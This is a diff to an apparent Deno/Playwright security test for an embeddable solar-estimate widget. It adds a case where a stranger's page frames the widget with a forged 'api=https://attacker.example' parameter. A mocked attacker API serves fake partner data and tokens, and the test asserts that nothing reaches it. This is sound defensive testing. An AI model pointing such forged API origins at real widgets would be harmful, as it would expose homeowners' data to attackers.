@@ -47,12 +47,21 @@ Deno.test({
     }`;
     // the hosted page itself: no frame-ancestors anywhere, the check marked on its <html>
     assert.match(await Deno.readTextFile(`${dir}/index.html`), /<html lang="en" data-frame-check>/);
+    // A copy built without an API origin (`npm run widget:build` without WIDGET_API_ORIGIN), on another bucket.
+    const dirNoApi = await Deno.makeTempDir({ prefix: "hosted-widget-" });
+    await writeCdnBuild(new URL("../../../widget/dist/", import.meta.url), {
+      dir: new URL(`file://${dirNoApi}/`),
+    });
+    const bucketNoApi = serveDir("127.0.0.3", dirNoApi);
+    // the partner's page, or a stranger's: it frames the widget, or the URL given as ?src=
     const site = Deno.serve(
       { hostname: "127.0.0.2", port: 0, onListen: () => {} },
-      () =>
+      (req) =>
         new Response(
           `<!doctype html><html><head><meta charset="utf-8"><title>Partner</title></head><body>
-<iframe src="${widgetUrl}" width="100%" height="640" title="Solar savings estimate"></iframe></body></html>`,
+<iframe src="${
+            (new URL(req.url).searchParams.get("src") ?? widgetUrl).replaceAll('"', "&quot;")
+          }" width="100%" height="640" title="Solar savings estimate"></iframe></body></html>`,
           { headers: { "content-type": "text/html" } },
         ),
     );
@@ -96,18 +105,60 @@ Deno.test({
       // Fails closed (pass 17): the script blocked (here aborted; a filter, a failed integrity check, a policy), framed
       // by the stranger or opened alone, the page shows the notice and hides the app.
       for (const url of [`${siteUrl}/`, widgetUrl]) {
-        const blocked = await (await browser.newContext({ viewport: { width: 1000, height: 800 } })).newPage();
+        const blocked = await (await browser.newContext({ viewport: { width: 1000, height: 800 } }))
+          .newPage();
         await blocked.route(/\/app\.[\w-]+\.js$/, (r) => r.abort());
         await blocked.goto(url);
         const where = url === widgetUrl ? blocked.mainFrame() : blocked.frames()[1];
-        await where.getByRole("heading", { name: "This estimate cannot be shown here" }).waitFor({ timeout: 20_000 });
+        await where.getByRole("heading", { name: "This estimate cannot be shown here" }).waitFor({
+          timeout: 20_000,
+        });
         assert.equal(await where.locator("#app").isVisible(), false, `${url}: the app hidden`);
         assert.equal(await where.locator("form").count(), 0);
         await blocked.context().close();
       }
+
+      // The copy without an API origin, framed by the stranger with `&api=https://attacker.example` (pass 17): the
+      // attacker's API would name the stranger in `frame_origins` and pass the check, and get the homeowner's data.
+      // Its policy now lets it call its own origin only: nothing reaches the attacker, nothing of its shows.
+      const attacked = await (await browser.newContext({ viewport: { width: 1000, height: 800 } })).newPage();
+      const reached: string[] = [];
+      await attacked.route("https://attacker.example/**", (route) => {
+        reached.push(new URL(route.request().url()).pathname);
+        const body = route.request().url().endsWith("/widget-info")
+          ? {
+            data: {
+              partner_name: "Attacker Solar",
+              serving_states: ["CA"],
+              roof_types: ["Shingle"],
+              theme: {},
+              frame_origins: [siteUrl],
+            },
+          }
+          : { idToken: "x.y.z", expiresIn: 3600 };
+        return route.fulfill({
+          status: 200,
+          contentType: "application/json",
+          headers: { "access-control-allow-origin": "*", "access-control-allow-headers": "*" },
+          body: JSON.stringify(body),
+        });
+      });
+      const forged = `${bucketNoApi.url}/index.html?token=wgt_x&api=${
+        encodeURIComponent("https://attacker.example")
+      }`;
+      await attacked.goto(`${siteUrl}/?src=${encodeURIComponent(forged)}`);
+      const inner = attacked.frameLocator("iframe[title='Solar savings estimate']");
+      await inner.locator("main.screen").first().waitFor({ timeout: 20_000 });
+      await attacked.waitForTimeout(1000);
+      assert.deepEqual(reached, [], "the attacker's API got requests");
+      assert.equal(await inner.getByText("Attacker Solar").count(), 0);
+      assert.equal(await inner.locator("form").count(), 0);
+      await attacked.context().close();
     } finally {
       await site.shutdown();
       await bucket.close();
+      await bucketNoApi.close();
+      await Deno.remove(dirNoApi, { recursive: true }).catch(() => {});
       await Deno.remove(dir, { recursive: true }).catch(() => {});
     }
   });
